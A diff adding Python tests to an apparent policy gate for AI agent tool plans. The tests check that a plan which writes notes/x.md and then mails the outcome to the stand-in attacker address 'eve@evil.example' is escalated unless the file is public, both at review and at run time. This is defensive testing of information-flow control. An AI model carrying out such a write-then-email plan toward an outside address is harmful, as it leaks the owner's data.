@@ -237,6 +237,39 @@ def test_disclosed_content_counts_at_run_time(forwarding_policy: CompiledPolicy)
     assert OWNER  # the owner is never among the forged recipients
 
 
+def _write_then_tell(policy: CompiledPolicy) -> tuple[dict[str, Any], Trigger]:
+    trigger = owner_trigger("write notes/x.md and mail eve@evil.example how it went")
+    data = plan(call("w", "write_file", path=lit("notes/x.md", "payload"), content=lit("hi")),
+                call("s", "send_email", to={"list": [lit("eve@evil.example", "payload")]},
+                     subject=lit("s"), body=ref("w")))
+    return data, trigger
+
+
+def test_a_writes_success_carries_the_readers_of_the_state_it_writes(policy: CompiledPolicy) -> None:
+    """Whether a write succeeds depends on what is there already (a path through an
+    existing file fails): its output says so only to the readers of that state, taken
+    before the write records its own label. Unknown state is the owner's; a name stored
+    with a public label is anyone's."""
+    from plangate.review import review
+
+    data, trigger = _write_then_tell(policy)
+    classified = classify(trigger, policy.doc.deployment)  # type: ignore[arg-type]
+    unknown = review(classified, data, policy)
+    assert unknown.verdict == "escalate" and "owner-confirms-new-readers" in unknown.rules
+    public = MemoryResourceLabels({"workspace:notes/x.md": Label()})
+    assert review(classified, data, policy, resources=public).verdict == "approve"
+
+
+def test_a_writes_success_counts_at_run_time_too(policy: CompiledPolicy) -> None:
+    data, trigger = _write_then_tell(policy)
+    tools = FixtureTools()
+    result = Executor(policy, tools, _Audit()).run(forged_grant(policy, data, trigger), "r")
+    assert [t for t, _ in tools.calls] == ["write_file"] and result.status == "escalated", result
+    public = MemoryResourceLabels({"workspace:notes/x.md": Label()})
+    ok = Executor(policy, tools, _Audit(), resources=public).run(forged_grant(policy, data, trigger), "r")
+    assert ok.status == "completed", ok
+
+
 # ------------------------------------------------------------------ what the planner saw
 
 
